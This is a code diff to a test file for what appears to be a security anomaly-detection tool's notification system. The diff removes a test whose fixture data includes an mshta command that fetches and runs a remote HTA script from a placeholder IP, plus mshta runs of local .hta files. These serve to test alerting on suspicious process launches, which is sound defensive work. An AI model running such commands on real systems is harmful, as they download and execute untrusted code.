@@ -5,11 +5,8 @@ import { type Mailbox, openMailbox } from '@/fixtures/mailbox'
 import { openReceiver, type Receiver } from '@/fixtures/receiver'
 import { assignDeviation } from '@/lib/operations/assign-deviation'
 import { commentDeviation } from '@/lib/operations/comment-deviation'
-import { ingestExamples } from '@/lib/operations/ingest/example-use'
-import { recompute } from '@/lib/operations/recompute/recompute'
 import { itemOf, withTriageExamples } from '@/lib/operations/triage-examples'
 import { followAudit } from '@/lib/store/notifications/follow'
-import { readClock, tellOfNewDeviations } from '@/lib/store/notifications/new-deviations'
 import { pool } from '@/lib/store/pool'
 import { findWebhook, listDeliveries, listInbox } from '@/lib/store/screens/notifications'
 import { chooseNotification, removeWebhook, sendTestNotification, setWebhook } from './choices'
@@ -231,47 +228,4 @@ test('an address inside is refused when it is set, and when the name leads there
   )
   await removeWebhook(gus)
   expect(await findWebhook(gus.accountId)).toBeNull()
-})
-
-test('new deviations are told to who chose so, from the score they chose, in their scope, and many at once together', async () => {
-  const { responder, groupResponder } = examples()
-  const settle = async () => {
-    await recompute(pool())
-    await tellOfNewDeviations(pool(), await readClock(pool()), openChannels())
-  }
-  await settle()
-  await chooseNotification(responder, {
-    event: 'deviation-found',
-    ...EVERYTHING,
-    email: false,
-    minScoreMillibits: 4000,
-  })
-  await chooseNotification(groupResponder, {
-    event: 'deviation-found',
-    ...EVERYTHING,
-    minScoreMillibits: 90_000,
-  })
-  const use = (host: string, commandLine: string) => ({
-    host,
-    at: '2026-01-08T12:00:00Z',
-    image: 'C:\\Windows\\System32\\mshta.exe',
-    commandLine,
-  })
-  await ingestExamples(pool(), [use('ws-3.example', 'mshta http://203.0.113.9/a.hta')])
-  await settle()
-  await settle()
-  const told = await listInbox(responder.accountId)
-  expect(told).toHaveLength(1)
-  expect(told[0]?.title).toMatch(/^New deviation, \d+\.\d bits: Mshta\.exe$/)
-  expect(await listInbox(groupResponder.accountId)).toEqual([])
-
-  const words = 'amber birch cedar dune ember fern grove heath inlet jetty knoll ledge'.split(' ')
-  await ingestExamples(
-    pool(),
-    words.map((word) => use('ws-2.example', `mshta C:\\Users\\Public\\${word}.hta`)),
-  )
-  await settle()
-  const [together, ...before] = await listInbox(responder.accountId)
-  expect(before).toHaveLength(1)
-  expect(together?.title).toMatch(/^12 new deviations, the highest \d+\.\d bits: Mshta\.exe$/)
 })
